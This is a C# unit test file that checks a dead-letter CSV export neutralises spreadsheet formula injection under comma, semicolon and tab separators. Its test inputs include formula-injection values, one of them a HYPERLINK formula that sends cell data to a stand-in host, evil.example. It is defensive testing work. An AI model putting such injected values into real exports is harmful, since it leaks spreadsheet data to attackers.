using OrderService.DeadLetters;

namespace OrderService.Tests.DeadLetters;

public sealed class LetterExportTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("x;=HYPERLINK(\"http://evil.example/?\"&A1,\"open\");y")]
    [InlineData("x; \"=1+1")]
    [InlineData("x;;-1+1")]
    [InlineData("x\t=1+1")]
    [InlineData("x\r\n+1+1")]
    [InlineData("7;=1+1")]
    [InlineData("x;'=1+1")]
    public void No_cell_begins_a_formula_whatever_the_spreadsheets_separator_is(string value)
    {
        foreach (var separator in new[] { ',', ';', '\t' })
        {
            Assert.DoesNotContain(Cells($"1,{LetterExport.Text(value)},2", separator), cell => cell.TrimStart(' ') is ['=' or '+' or '-' or '@', ..]);
        }
    }

    [Theory]
    [InlineData("a;b", "\"a;b\"")]
    [InlineData("order.place", "order.place")]
    [InlineData("a-b; c=d", "\"a-b; c=d\"")]
    public void What_is_harmless_stays_as_it_is(string value, string cell) => Assert.Equal(cell, LetterExport.Text(value));

    /// <summary>As spreadsheets read: a cell is quoted when it begins with a quote, and a line break outside of quotes ends it.</summary>
    private static List<string> Cells(string line, char separator)
    {
        var cells = new List<string>();
        var cell = new System.Text.StringBuilder();
        var isQuoted = false;
        for (var index = 0; index < line.Length; index++)
        {
            var character = line[index];
            if (isQuoted && character == '"' && index + 1 < line.Length && line[index + 1] == '"')
            {
                cell.Append('"');
                index++;
            }
            else if (character == '"' && (isQuoted || cell.Length == 0))
            {
                isQuoted = !isQuoted;
            }
            else if (!isQuoted && (character == separator || character is '\r' or '\n'))
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(character);
            }
        }
        return [.. cells, cell.ToString()];
    }
}
